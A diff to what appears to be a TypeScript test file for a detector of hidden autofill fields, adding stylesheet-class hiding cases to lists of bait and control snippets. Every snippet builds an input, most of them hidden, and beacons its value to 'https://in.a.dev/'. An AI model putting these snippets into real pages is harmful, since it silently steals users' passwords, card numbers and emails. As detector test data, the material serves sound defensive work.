@@ -6,7 +6,7 @@ const make = "const field = document.createElement('input');";
 const send =
   "setTimeout(() => navigator.sendBeacon('https://in.a.dev/', field.value), 900); document.body.append(field);";
 
-const baits: readonly string[] = [
+const baits: string[] = [
   `${make} field.type = 'password'; field.style.opacity = '0'; ${send}`,
   `${make} field.setAttribute('autocomplete', 'cc-number'); field.style.cssText = 'left: -900px; position: fixed'; ${send}`,
   `${make} Object.assign(field, { type: 'email', hidden: true }); ${send}`,
@@ -17,7 +17,16 @@ const baits: readonly string[] = [
   `class Box { make(kind) { const field = document.createElement('input'); field.autocomplete = kind; field.width = 0; ${send} } } new Box().make('username');`,
 ];
 
+const sheet =
+  "const style = document.createElement('style'); style.textContent = '.tide-f { opacity: 0 }'; document.head.append(style);";
+baits.push(
+  `${sheet} ${make} field.type = 'email'; field.className = 'tide-f'; ${send}`,
+  `${sheet} ${make} field.type = 'email'; const box = document.createElement('p'); box.classList.add('tide-f', 'tide-g'); box.append(field); ${send}`,
+);
+
 const others: readonly string[] = [
+  `${sheet} ${make} field.type = 'email'; field.className = 'tide-g'; ${send}`,
+  `${sheet} ${make} field.type = 'email'; field.className = 'tide-f'; onclick = () => field.classList.remove('tide-f'); ${send}`,
   `${make} field.type = 'password'; field.style.opacity = '1'; ${send}`,
   `${make} field.type = 'file'; field.hidden = true; ${send}`,
   `${make} field.type = 'search'; field.autocomplete = 'off'; field.hidden = true; ${send}`,
